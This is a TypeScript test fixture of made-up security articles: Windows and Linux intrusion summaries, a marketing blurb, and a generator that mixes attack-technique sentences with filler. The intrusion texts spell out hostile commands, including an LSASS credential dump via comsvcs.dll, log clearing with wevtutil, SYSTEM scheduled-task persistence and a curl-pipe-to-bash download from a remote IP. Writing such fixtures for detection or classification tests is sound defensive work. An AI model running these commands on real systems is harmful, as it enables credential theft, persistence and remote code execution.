// Articles written for these tests (not taken from any publication).

export const WINDOWS_INTRUSION = String.raw`Incident summary. In March our responders handled an intrusion that began with a phishing email carrying a ZIP archive. The archive held a JavaScript file that, once opened, launched wscript.exe, which in turn started powershell.exe -nop -w hidden -enc with a long base64 argument.

The decoded PowerShell downloaded a loader to C:\Users\Public\Libraries\updsvc.exe and registered it under HKCU\Software\Microsoft\Windows\CurrentVersion\Run with the value name UpdSvc. The loader contacted 185.220.101[.]44 over HTTPS every sixty seconds.

On the second day the operator dumped credentials with rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\d.bin full, then moved laterally with PsExec to two file servers. Event ID 7045 recorded a service named PSEXESVC on each of them.

Before leaving, the actor created a scheduled task with schtasks /create /tn "\Microsoft\Windows\Maintenance\Upd" /tr "C:\Users\Public\Libraries\updsvc.exe" /sc onlogon /ru SYSTEM and cleared the Security log with wevtutil cl Security.`;

export const LINUX_INTRUSION = `The cloud server was compromised through an exposed Jenkins console. The attacker used the script console to run curl -s http://45.9.148.99/i.sh | bash, which installed a miner under /tmp/.X11-unix/.rsync/kswapd0.

Persistence was added with a crontab entry that re-downloads the script every five minutes, and an SSH key was appended to /root/.ssh/authorized_keys. The miner hid itself by writing a library path to /etc/ld.so.preload.

Responders found the systemd unit /etc/systemd/system/dbus-update.service with ExecStart pointing to /var/tmp/.cache/dbus-update, enabled with systemctl enable --now.`;

export const MARKETING = `Meet the platform that security teams love. Our award-winning solution brings endpoint, identity and cloud protection together in one beautiful console, so your analysts can focus on what matters most.

Customers tell us they cut alert volume in half within the first month. With flexible pricing, world-class support and more than 400 integrations, there has never been a better time to switch. Book a personalized demo today and ask about our spring promotion for new customers.

Join thousands of organizations that trust us to keep their business running. Our team of experts is ready to help you every step of the way, from onboarding to your first quarterly business review.

This year we were honoured to receive three industry awards, and our community of partners grew to more than two thousand resellers across five continents. We are grateful to every customer who shared feedback and helped shape the roadmap.

Register now for our annual user conference, where you can meet product leaders, attend hands-on workshops and hear inspiring stories from peers. Early-bird tickets are available until the end of the month, and group discounts apply for teams of five or more.

Our mission has always been simple: make security effortless for everyone. Thank you for being part of the journey, and stay tuned for more exciting announcements in the months ahead.`;

/** A long article: many distinct paragraphs so chunking yields well over a handful of chunks. */
export function longArticle(paragraphs = 24): string {
  const topics = [
    'The operator ran net group "domain admins" /domain from a command prompt spawned by the beacon.',
    'Our quarterly newsletter celebrates the achievements of the customer success team this year.',
    'A scheduled task named SyncUpd launched rundll32.exe with a DLL in C:\\ProgramData\\sync.',
    'The company announced a new office in Lisbon and thanked its partners for their continued trust.',
    'Registry persistence was added under HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run as Updater.',
    'Analysts expect the market for security services to keep growing over the next five years.',
  ];
  return Array.from(
    { length: paragraphs },
    (_, i) =>
      `Paragraph ${i + 1}. ${topics[i % topics.length]} ${'Further context follows in this paragraph about the events of that day and the people involved. '.repeat(3)}`,
  ).join('\n\n');
}
